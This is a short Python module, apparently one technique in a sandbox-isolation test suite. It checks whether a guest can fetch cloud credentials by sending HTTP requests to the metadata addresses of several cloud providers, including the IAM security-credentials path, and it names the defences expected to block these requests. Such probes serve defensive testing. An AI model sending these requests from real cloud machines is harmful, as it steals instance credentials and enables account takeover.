"""Machines of clouds ask a fixed address who they are, and get keys."""

from typing import Any

from space_evaluate.inside import Case
from space_evaluate.technique import BOTH, HOST_SECRET, Technique

TECHNIQUE = Technique(
    tries="Ask the metadata addresses of clouds for credentials.",
    claim="G3",
    defences=("edge filter and source check",),
    stopped_by=("guest_tcp",),
    goals=(HOST_SECRET,),
    policies=BOTH,
    variants={
        "169.254.169.254": "169.254.169.254",
        "169.254.170.2": "169.254.170.2",
        "168.63.129.16": "168.63.129.16",
        "100.100.100.200": "100.100.100.200",
        "192.0.0.192": "192.0.0.192",
    },
    quick=True,
)


def attack(case: Case, what: Any) -> None:
    for path in ("/latest/meta-data/iam/security-credentials/", "/computeMetadata/v1/", "/metadata/instance"):
        case.connect(what, 80, f"GET {path} HTTP/1.1\r\nHost: {what}\r\nMetadata-Flavor: Google\r\n\r\n".encode(), seconds=1)
